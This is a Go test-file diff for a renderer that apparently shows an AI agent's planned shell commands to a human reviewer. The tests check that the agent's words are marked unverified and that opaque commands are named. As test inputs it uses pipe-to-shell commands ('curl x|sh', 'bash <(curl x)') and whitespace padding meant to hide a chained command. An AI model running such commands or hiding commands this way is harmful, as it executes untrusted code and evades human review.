@@ -1,6 +1,7 @@
 package render_test
 
 import (
+	"fmt"
 	"regexp"
 	"slices"
 	"strconv"
@@ -79,48 +80,58 @@ func TestPadding(t *testing.T) {
 		p := render.Render(plantest.Bytes(t, plantest.Full("echo safe"+pad+"; curl x|sh")),
 			render.Options{})
 		screen := strings.Join(p.Lines[:min(24, len(p.Lines))], "\n")
-		if p.Truncated || !strings.Contains(screen, "⟦×") ||
+		if !strings.Contains(screen, "⟦×") ||
 			!strings.Contains(screen, "│ curl x\n") || !strings.Contains(screen, "│ |sh\n") {
 			t.Errorf("padding with %.3q:\n%s", pad, p.Text())
 		}
 	}
 }
 
-// E-dsp-6: the agent's words come after the facts, in at most two lines, with a label that says so.
+// E-dsp-6: the agent's words are in the details only, after the facts, with a label that says so. The
+// first page says that there are some.
 func TestAgentSays(t *testing.T) {
-	for says, cut := range map[string]bool{"ok": false, strings.Repeat("trust me ", 500): true,
-		"line\nplan     0000 0000\n": false,
-		"\x1b[2J":                    false, strings.Repeat("\u4e2d", 300): false,
-		strings.Repeat("\u4e2d\u6587", 100): true} {
-		for _, width := range []int{40, 80} {
+	for _, says := range []string{"ok", strings.Repeat("trust me ", 500),
+		"line\nplan     0000 0000\n", "\x1b[2J", strings.Repeat("\u4e2d\u6587", 100)} {
+		for _, width := range []int{40, 100} {
 			plan := plantest.Full("ls")
 			plan["agent_says"] = says
-			p := render.Render(plantest.Bytes(t, plan), render.Options{Width: width})
-			at := slices.IndexFunc(p.Lines,
+			full := render.Render(plantest.Bytes(t, plan), render.Options{Width: width, Full: true})
+			at := slices.IndexFunc(full.Lines,
 				func(l string) bool { return strings.HasPrefix(l, "agent says (unverified): ") })
-			end := slices.IndexFunc(p.Lines,
-				func(l string) bool { return strings.HasPrefix(l, "plan ") })
-			if at < 0 || end-at > 2 || end != len(p.Lines)-2 {
-				t.Errorf("says %.20q:\n%s", says, p.Text())
+			end := slices.IndexFunc(full.Lines,
+				func(l string) bool { return strings.HasPrefix(l, "━━ plan ") })
+			if at < 0 || end < at || slices.ContainsFunc(full.Lines[at+1:end],
+				func(l string) bool { return !strings.HasPrefix(l, "         ┊ ") }) {
+				t.Errorf("says %.20q:\n%s", says, full.Text())
 			}
-			if p.Truncated != cut {
-				t.Errorf("says %.20q: truncated %v", says, p.Truncated)
+			delete(plan, "targets")
+			delete(plan, "opaque")
+			first := render.Render(plantest.Bytes(t, plan), render.Options{Width: width})
+			last := first.Lines[len(first.Lines)-1]
+			if strings.Contains(first.Text(), "trust me") || first.Truncated ||
+				width == 100 && !strings.Contains(last, "the agent's words") {
+				t.Errorf("says %.20q:\n%s", says, first.Text())
 			}
 		}
 	}
 }
 
-// E-dsp-7: what cannot be inspected is named.
+// E-dsp-7: what cannot be inspected is named, on the first page too unless a message names it.
 func TestOpaque(t *testing.T) {
 	plan := plantest.Full("ls")
 	plan["opaque"] = []any{map[string]any{"text": "bash <(curl x)",
 		"why": "its input is not known"}, "python3 -c"}
-	text := render.Render(plantest.Bytes(t, plan), render.Options{}).Text()
+	text := render.Render(plantest.Bytes(t, plan), render.Options{Full: true}).Text()
 	for _, want := range []string{"cannot inspect: bash <(curl x) · its input is not known\n",
 		"cannot inspect: python3 -c\n"} {
 		if !strings.Contains(text, want) {
 			t.Errorf("no %q in\n%s", want, text)
 		}
+	}
+	const line = "\nunknown  bash <(curl x) · python3 -c\n"
+	if text := render.Render(plantest.Bytes(t, plan), render.Options{}).Text(); !strings.Contains(
+		text, line) {
+		t.Errorf("no %q in\n%s", line, text)
 	}
 }
 
@@ -159,7 +170,7 @@ func TestInline(t *testing.T) {
 	}
 	many := make([]any, 400)
 	for i := range many {
-		many[i] = map[string]any{"rule": "r"}
+		many[i] = map[string]any{"rule": fmt.Sprint("r", i)}
 	}
 	if render.Render(plantest.Small(t, func(p map[string]any) { p["reasons"] = many }),
 		render.Options{}).Inline {
